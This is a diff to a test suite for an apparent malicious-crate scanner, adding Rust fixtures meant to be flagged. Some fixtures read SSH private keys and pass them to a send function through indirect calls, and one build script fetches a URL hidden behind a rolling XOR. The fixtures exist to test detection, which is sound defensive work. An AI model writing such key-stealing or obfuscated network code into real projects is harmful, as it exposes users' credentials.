@@ -107,6 +107,18 @@ describe('secrets that are sent', () => {
         'src/lib.rs': `${SEND} pub fn f() { let (tx, rx) = std::sync::mpsc::channel::<Vec<u8>>(); std::thread::spawn(move || for d in rx { send(&d) }); tx.send(std::fs::read("/home/u/.ssh/id_ed25519").unwrap()).unwrap(); }`,
       },
     ],
+    [
+      'a table of functions',
+      {
+        'src/lib.rs': `${SEND} fn a() -> Vec<u8> { std::fs::read("/home/u/.ssh/id_rsa").unwrap() } fn b(d: Vec<u8>) { send(&d) } struct P { g: fn() -> Vec<u8>, s: fn(Vec<u8>) } const PS: [P; 1] = [P { g: a, s: b }]; pub fn f() { for p in &PS { (p.s)((p.g)()) } }`,
+      },
+    ],
+    [
+      'fields of one type',
+      {
+        'src/lib.rs': `${SEND} pub struct L(Vec<u8>); impl L { pub fn add(&mut self) { self.0.extend(std::fs::read("/home/u/.ssh/id_rsa").unwrap()) } pub fn flush(&self) { send(&self.0) } }`,
+      },
+    ],
   ])('asks a person where only one function leads to both: %s', (_, files) => {
     expect(serious(files)).toEqual(['review', 'collect-and-send']);
   });
@@ -295,6 +307,11 @@ describe('build scripts', () => {
       'an address behind xor',
       ['hold', 'build-network', 'hidden-argument'],
       `fn d(s: &[u8]) -> String { let mut o = String::new(); for b in s { o.push((b ^ 0x2a) as char); } o } fn main() { ureq::get(&d(b"${xored(URL_TEXT, 0x2a)}")).call().unwrap(); }`,
+    ],
+    [
+      'an address behind a rolling xor',
+      ['hold', 'build-network', 'hidden-argument'],
+      `const D: [u8; ${URL_TEXT.length}] = [${[...URL_TEXT].map((char, at) => char.charCodeAt(0) ^ [7, 9, 13][at % 3]!)}]; const K: [u8; 3] = [7, 9, 13]; fn main() { let u: String = D.iter().zip(K.iter().cycle()).map(|(a, b)| (a ^ b) as char).collect(); ureq::get(&u).call().unwrap(); }`,
     ],
     [
       'a silent process',
